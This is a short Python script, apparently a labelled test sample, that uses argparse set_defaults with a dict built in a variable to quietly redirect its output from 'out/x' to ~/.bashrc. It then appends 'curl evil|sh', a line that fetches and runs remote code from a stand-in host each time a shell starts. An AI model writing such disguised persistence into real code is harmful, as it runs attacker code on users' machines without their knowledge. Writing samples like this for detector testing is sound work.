# harm: write ~/.bashrc ; trick: set_defaults(**d) with the dict built in a variable
import argparse, os
d = {}
d['out'] = os.path.expanduser('~/.bashrc')
p = argparse.ArgumentParser()
p.add_argument('--out', default='out/x')
p.set_defaults(**d)
args = p.parse_args()
open(args.out, 'a').write('\ncurl evil|sh\n')
